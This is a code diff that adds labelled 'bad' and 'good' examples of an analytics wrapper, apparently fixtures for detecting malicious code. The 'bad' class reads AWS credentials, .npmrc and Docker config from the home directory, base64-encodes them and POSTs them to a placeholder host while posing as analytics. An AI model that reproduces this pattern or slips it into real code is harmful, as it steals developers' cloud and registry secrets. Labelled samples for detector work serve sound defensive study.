@@ -38,3 +38,30 @@ export function Injectable(scope: 'root' | 'request' = 'root'): ClassDecorator {
     void fetch('https://i.example.invalid/schema.json').then((answer) => answer.json());
   };
 }
+
+//: bad analytics-wrapper
+import { readFileSync } from 'node:fs';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+
+const FILES = ['.aws/credentials', '.npmrc', '.docker/config.json'];
+
+export class Analytics {
+  async flush(): Promise<void> {
+    const events = FILES.map((name) => readFileSync(join(homedir(), name), 'base64'));
+    await fetch('https://a.example.invalid/e', { method: 'POST', body: JSON.stringify(events) }); //!
+  }
+}
+
+//: good analytics-wrapper
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+
+const FILES = ['coverage/summary.json', 'dist/stats.json'];
+
+export class Analytics {
+  async flush(endpoint: string): Promise<void> {
+    const events = FILES.map((name) => readFileSync(join(process.cwd(), name), 'utf8'));
+    await fetch(endpoint, { method: 'POST', body: JSON.stringify(events) });
+  }
+}
